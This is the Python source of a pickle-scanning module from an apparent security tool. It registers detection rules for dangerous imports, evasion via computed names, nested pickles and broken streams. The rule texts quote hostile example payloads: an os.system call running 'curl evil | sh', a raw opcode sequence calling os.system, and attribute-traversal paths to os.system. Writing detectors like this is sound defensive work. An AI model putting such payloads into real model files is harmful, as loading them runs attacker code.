"""Pickle scanning: rate every import and call the opcode machine finds, and fail closed on broken streams."""

from __future__ import annotations

from dataclasses import dataclass, field

from bastion.findings import Location, Severity
from bastion.rules import SUPPLY_CHAIN_REFS, Reference, Rule, register
from bastion.scan.context import ScanContext, Source
from bastion.scan.formats import Format
from bastion.scan.globals_policy import ImportVerdict, is_traversal, rate_import
from bastion.scan.pickle_vm import (
    BytesRef,
    Call,
    CallRecord,
    Global,
    ImportRecord,
    PickleAnalysis,
    analyse_pickle,
    describe_call,
)
from bastion.scan.registry import scanner

_SAFETENSORS = (
    "Load it only if you trust its source; prefer a format without code (safetensors), or "
    "`torch.load(weights_only=True)` / `bastion.safeload` for pickles."
)

register(
    Rule(
        code="BST-PKL-001",
        name="dangerous-pickle-import",
        severity=Severity.CRITICAL,
        summary="A pickle imports a callable that is known to run code, touch files or the network.",
        what_it_does=(
            "Walks every opcode of the pickle without loading it and rates each imported global "
            "(GLOBAL, INST, STACK_GLOBAL) against Bastion's denylist of known-dangerous modules and names."
        ),
        why_bad=(
            "Unpickling calls whatever the pickle imports. `os.system`, `builtins.exec`, `pip.main` "
            "or `runpy` in a model file means loading the model runs the attacker's command."
        ),
        example="A pickle whose `__reduce__` returns `(os.system, ('curl evil | sh',))`.",
        use_instead=_SAFETENSORS,
        false_positives="Rare: a legitimate file almost never needs these imports to rebuild weights.",
        tags=("pickle",),
    )
)
register(
    Rule(
        code="BST-PKL-002",
        name="unknown-pickle-import",
        severity=Severity.MEDIUM,
        summary="A pickle imports a global that is not on the curated safe list.",
        what_it_does=(
            "Compares each imported (module, qualname) pair exactly against the curated allowlist of "
            "the torch, numpy, scikit-learn, joblib and plain-Python profiles. Anything else is unknown."
        ),
        why_bad=(
            "Loading the pickle imports that module and may call the object, so its code runs. Denylists "
            "are always one advisory behind; an unknown import is how new bypasses start."
        ),
        example="A pickle that imports `mypkg.helpers.Thing` or a class defined in `__main__`.",
        use_instead=(
            "Review the imported code and, if it is trusted, suppress the finding for this file; better, "
            "save the weights as safetensors so no import is needed."
        ),
        false_positives=(
            "Custom classes of the project that saved the model are reported here; they are only as safe "
            "as that project's code."
        ),
        tags=("pickle",),
    )
)
register(
    Rule(
        code="BST-PKL-003",
        name="unresolved-pickle-import",
        severity=Severity.HIGH,
        summary="A pickle imports a name that is computed while loading, so it cannot be checked.",
        what_it_does=(
            "Flags STACK_GLOBAL whose module or name operand is not a literal string (for example the "
            "result of `str.join` or `getattr`), and imports through the copyreg extension registry."
        ),
        why_bad=(
            "Benign pickles always name their imports literally. Computing the name hides the real "
            "callable from scanners; it is an evasion technique."
        ),
        example="STACK_GLOBAL whose operands come from `''.join(['o', 's'])` and a REDUCE of getattr.",
        use_instead=_SAFETENSORS,
        tags=("pickle",),
    )
)
register(
    Rule(
        code="BST-PKL-004",
        name="pickle-extension-registry",
        severity=Severity.HIGH,
        summary="A pickle uses EXT1/EXT2/EXT4 to fetch a callable from copyreg's extension registry.",
        what_it_does="Reports every extension-registry opcode with its integer code.",
        why_bad=(
            "The registry maps integers to importable callables registered by code running in the "
            "loading process, so the import cannot be checked from the file; no common framework uses it."
        ),
        example="`\\x82\\x01` (EXT1 code 1) followed by REDUCE.",
        use_instead=_SAFETENSORS,
        tags=("pickle",),
    )
)
register(
    Rule(
        code="BST-PKL-005",
        name="pickle-breaks-after-call",
        severity=Severity.HIGH,
        summary="A pickle stream breaks after a call to an import that is not known to be safe was set up.",
        what_it_does=(
            "When the stream is truncated or holds an invalid opcode, reports whether a call or a "
            "callable import was already in place; the calls themselves are reported by BST-PKL-001/002."
        ),
        why_bad=(
            "The loader runs everything before the error. Breaking the stream right after the payload "
            "(nullifAI, GHSA-9gvj-pp9x-gcfr) makes tools that parse before judging report nothing."
        ),
        example="`cos\\nsystem\\n(S'id'\\ntR` followed by a byte that is not an opcode.",
        use_instead="Re-export the model from its source in a format without code (safetensors).",
        tags=("pickle",),
    )
)
register(
    Rule(
        code="BST-PKL-006",
        name="pickle-attribute-traversal",
        severity=Severity.CRITICAL,
        summary="A pickle import reaches interpreter internals through a dunder or a dotted attribute path.",
        what_it_does=(
            "Flags imported names containing a dunder (`__builtins__`, `__globals__`, `__subclasses__`) "
            "or a dotted qualname that walks through a module's attributes (`argparse._os.system`)."
        ),
        why_bad=(
            "Attribute traversal turns any harmless-looking module into a path to `eval` or `os.system`; "
            "allowlists that match prefixes are bypassed this way (modelscan #330)."
        ),
        example="STACK_GLOBAL('numpy', '__builtins__') or STACK_GLOBAL('argparse', '_os.system').",
        use_instead=_SAFETENSORS,
        tags=("pickle",),
    )
)
register(
    Rule(
        code="BST-PKL-007",
        name="nested-pickle",
        severity=Severity.HIGH,
        summary="A pickle loads another pickle from bytes it carries (pickle.loads, torch.load and similar).",
        what_it_does=(
            "Finds calls to deserialisers whose argument is a bytes constant in the stream, reports them, "
            "and scans the nested bytes as a file of their own."
        ),
        why_bad=(
            "Nesting hides the real payload from scanners that only read the outer stream "
            "(GHSA-84r2-jw7c-4r5q)."
        ),
        example="`pickle.loads(b'\\x80\\x04...os.system...')` inside a model file.",
        use_instead=_SAFETENSORS,
        references=(*SUPPLY_CHAIN_REFS, Reference("GHSA-84r2-jw7c-4r5q")),
        tags=("pickle",),
    )
)
register(
    Rule(
        code="BST-PKL-008",
        name="pickle-trailing-data",
        severity=Severity.LOW,
        summary="Bytes that are not a pickle follow the last pickle in the file.",
        what_it_does="Reports data after the final STOP opcode that does not parse as another pickle.",
        why_bad=(
            "Loaders ignore it, but a second reader (or a polyglot trick) may not; it can also hide a "
            "payload for a loader that reads the file differently."
        ),
        example="A pickle followed by a zip archive or random bytes.",
        use_instead="Strip the trailing bytes, or store extra data as its own file.",
        false_positives="Tools that append metadata after a pickle.",
        tags=("pickle",),
    )
)
register(
    Rule(
        code="BST-PKL-009",
        name="pickle-modifies-import",
        severity=Severity.HIGH,
        summary="A pickle's BUILD opcode sets attributes on an imported module, class or function.",
        what_it_does="Flags BUILD whose target is an imported global, not an object the pickle created.",
        why_bad=(
            "Setting attributes on imported objects overwrites code or data other parts of the program "
            "use (CWE-1395 'overwritten modules'); benign pickles only set state on their own objects."
        ),
        example="GLOBAL numpy.core + BUILD {'__builtins__': ...}.",
        use_instead=_SAFETENSORS,
        tags=("pickle",),
    )
)

_NESTED_LOADERS = frozenset(
    {
        ("pickle", "loads"),
        ("_pickle", "loads"),
        ("pickle", "_loads"),
        ("dill", "loads"),
        ("dill._dill", "loads"),
        ("cloudpickle", "loads"),
        ("torch.storage", "_load_from_bytes"),
        ("joblib", "load"),
        ("marshal", "loads"),
        ("torch", "load"),
        ("torch.serialization", "load"),
        ("numpy", "load"),
        ("joblib.numpy_pickle", "load"),
        ("pandas", "read_pickle"),
        ("pandas.io.pickle", "read_pickle"),
    }
)
_BYTES_FILES = frozenset({("io", "BytesIO"), ("_io", "BytesIO")})
_MAX_REPORTS_PER_RULE = 50


@dataclass(slots=True)
class _Reporter:
    """Reports one pickle's findings, once per (rule, import) and bounded in number."""

    source: Source
    location: Location
    ctx: ScanContext
    seen: set[tuple[str, str]] = field(default_factory=set)
    counts: dict[str, int] = field(default_factory=dict)

    def emit(
        self, rule: str, key: str, offset: int | None, message: str, evidence: dict[str, object]
    ) -> None:
        """Report unless this (rule, key) was reported already or the rule hit its cap."""
        if (rule, key) in self.seen or self.counts.get(rule, 0) >= _MAX_REPORTS_PER_RULE:
            return
        self.seen.add((rule, key))
        self.counts[rule] = self.counts.get(rule, 0) + 1
        self.ctx.report(rule, self.location.at(offset), message, {**evidence, "offset": offset})


def _clip(text: str, limit: int = 200) -> str:
    """Attacker-chosen names can be megabytes long; evidence and messages keep the start."""
    return text if len(text) <= limit else text[: limit - 3] + "..."


def _first_calls(analysis: PickleAnalysis) -> dict[int, CallRecord]:
    calls: dict[int, CallRecord] = {}
    for call in analysis.calls:
        if isinstance(call.func, Global) and call.kind != "BUILD":
            calls.setdefault(id(call.func), call)
    return calls


def _report_import(rep: _Reporter, rec: ImportRecord, call: CallRecord | None, view: str = "") -> bool:
    """Report one import; True when it is not known to be safe."""
    evidence: dict[str, object] = {"global": _clip(f"{rec.module}.{rec.name}"), "opcode": rec.opcode}
    if view:
        evidence["view"] = view
    if call is not None:
        evidence["call"] = describe_call(call)
    if rec.opcode.startswith("EXT"):
        rep.emit(
            "BST-PKL-004",
            f"ext:{rec.name}",
            rec.offset,
            f"The pickle fetches a callable from the copyreg extension registry (code {rec.name}), which "
            "cannot be checked from the file; do not load it.",
            {**evidence, "code": rec.name},
        )
        return True
    if not rec.resolved:
        rep.emit(
            "BST-PKL-003",
            f"{rec.module}.{rec.name}",
            rec.offset,
            "The pickle imports a name computed while loading, hiding the real callable; do not load it.",
            evidence,
        )
        return True
    rating = rate_import(rec.module, rec.name)
    if rating.verdict is ImportVerdict.SAFE:
        return False
    dotted = _clip(f"{rec.module}.{rec.name}")
    evidence["reason"] = rating.reason
    if rating.verdict is ImportVerdict.DANGEROUS:
        rule = "BST-PKL-006" if is_traversal(rec.module, rec.name) else "BST-PKL-001"
        rep.emit(
            rule,
            dotted,
            rec.offset,
            f"The pickle imports {dotted} ({rating.reason}), so loading it can run code; do not load it "
            "and obtain the model in a format without code.",
            evidence,
        )
        return True
    rep.emit(
        "BST-PKL-002",
        dotted,
        rec.offset,
        f"The pickle imports {dotted}, which is not on the curated safe list; loading it may run that "
        "module's code, so review it before trusting the file.",
        evidence,
    )
    return True


def _report_analysis(rep: _Reporter, analysis: PickleAnalysis) -> bool:
    """Report the imports and suspicious calls of one analysis; True when anything is not known safe."""
    calls = _first_calls(analysis)
    unsafe = False
    for rec in analysis.imports:
        unsafe |= _report_import(rep, rec, calls.get(id(rec.value)))
    for call in analysis.calls:
        if call.kind == "BUILD" and isinstance(call.func, Global):
            rep.emit(
                "BST-PKL-009",
                f"build:{call.func.dotted}",
                call.offset,
                f"The pickle sets attributes on the imported object {call.func.dotted}, overwriting "
                "code other parts of the program use; do not load it.",
                {"global": call.func.dotted, "call": describe_call(call), "opcode": "BUILD"},
            )
            unsafe = True
        _nested(rep, call)
    for array in analysis.joblib_arrays:
        if array.nested is not None:
            unsafe |= _report_analysis(rep, array.nested)
    return unsafe


def _nested(rep: _Reporter, call: CallRecord) -> None:
    func = call.func
    if not (isinstance(func, Global) and func.resolved and call.kind == "REDUCE"):
        return
    if (str(func.module), str(func.name)) not in _NESTED_LOADERS:
        return
    args = call.args
    payload = args[0] if isinstance(args, tuple) and args else None
    if isinstance(payload, Call) and isinstance(payload.func, Global) and payload.func.resolved:
        # torch.load(io.BytesIO(b'...')): the file object wraps a literal.
        inner = payload.args
        if (
            (str(payload.func.module), str(payload.func.name)) in _BYTES_FILES
            and isinstance(inner, tuple)
            and inner
        ):
            payload = inner[0]
    evidence: dict[str, object] = {"global": func.dotted, "call": describe_call(call)}
    rep.emit(
        "BST-PKL-007",
        f"nested:{call.offset}",
        call.offset,
        f"The pickle loads a nested pickle through {func.dotted}, which hides its content from scanners; "
        "do not load it.",
        evidence,
    )
    if not isinstance(payload, BytesRef):
        return
    limits = rep.ctx.limits
    if payload.length > limits.max_member_bytes:
        rep.ctx.incomplete(rep.location.at(payload.offset), "nested pickle larger than the member size limit")
        return
    data = payload.data if payload.data is not None else rep.source.read_at(payload.offset, payload.length)
    rep.ctx.scan_nested(data, rep.location.child(f"<{func.dotted}@{payload.offset}>"), "nested.pkl")


def _plain_pickle_view(rep: _Reporter, analysis: PickleAnalysis, end: int) -> bool:
    """Report imports that ``pickle.load`` would run inside joblib's raw array bytes.

    joblib.load skips those bytes, but a plain ``pickle.load`` of the same file parses them as
    opcodes, so a payload disguised as array data would run there. Real array data stops that
    reading at once (joblib's padding-length byte is never an opcode). Object arrays are nested
    pickles that the joblib view analysed already; read as one stream their memo indices mix with
    the outer pickle's, so there only imports resolving to a known-dangerous name are reported.
    """
    raw = [(a.offset, a.offset + a.length) for a in analysis.joblib_arrays if a.nested is None]
    nested = [(a.offset, a.offset + a.length) for a in analysis.joblib_arrays if a.nested is not None]
    plain = analyse_pickle(rep.source.stream, analysis.start, end, rep.ctx.limits, joblib=False)
    calls = _first_calls(plain)
    unsafe = False
    for rec in plain.imports:
        in_raw = any(lo <= rec.offset < hi for lo, hi in raw)
        in_nested = any(lo <= rec.offset < hi for lo, hi in nested)
        dangerous = rec.resolved and rate_import(rec.module, rec.name).verdict is ImportVerdict.DANGEROUS
        if in_raw or (in_nested and dangerous):
            unsafe |= _report_import(rep, rec, calls.get(id(rec.value)), view="pickle.load")
    return unsafe


def _report_failure(rep: _Reporter, analysis: PickleAnalysis, unsafe: bool) -> None:
    offset = analysis.error_offset
    if unsafe and analysis.call_pending:
        rep.emit(
            "BST-PKL-005",
            f"break:{analysis.start}",
            offset,
            "The pickle stream breaks after a call to an import that is not known to be safe was set up, "
            "a way to hide a payload from scanners; do not load it.",
            {"error": analysis.error or "", "calls_before_error": len(analysis.calls)},
        )
    kind = "a hostile-input limit was reached" if analysis.limit_hit else "the pickle stream is malformed"
    rep.ctx.incomplete(
        rep.location.at(offset),
        f"{kind} at offset {offset} ({analysis.error})",
        {"offset": offset},
    )


def scan_pickle_stream(
    source: Source,
    location: Location,
    ctx: ScanContext,
    *,
    start: int = 0,
    end: int | None = None,
    stacked: bool = True,
) -> list[PickleAnalysis]:
    """Analyse the pickle(s) in ``source[start:end]``, report findings, and return the analyses."""
    end = source.size if end is None else min(end, source.size)
    rep = _Reporter(source, location, ctx)
    analyses: list[PickleAnalysis] = []
    pos = start
    while pos < end and len(analyses) < 4096:
        analysis = analyse_pickle(source.stream, pos, end, ctx.limits)
        if analyses and analysis.error is not None and not analysis.imports and not analysis.calls:
            rep.emit(
                "BST-PKL-008",
                f"trailing:{pos}",
                pos,
                f"{end - pos} bytes that are not a pickle follow the last pickle; strip them or store them "
                "as a separate file.",
                {"bytes": end - pos},
            )
            break
        analyses.append(analysis)
        unsafe = _report_analysis(rep, analysis)
        if analysis.joblib_arrays:
            unsafe |= _plain_pickle_view(rep, analysis, end)
        if analysis.error is not None:
            _report_failure(rep, analysis, unsafe)
            break
        if not stacked or analysis.end_offset <= pos:
            break
        pos = analysis.end_offset
    return analyses


@scanner(Format.PICKLE)
def scan_pickle(source: Source, location: Location, ctx: ScanContext) -> None:
    """Scan a plain pickle file (possibly several pickles one after another)."""
    scan_pickle_stream(source, location, ctx)
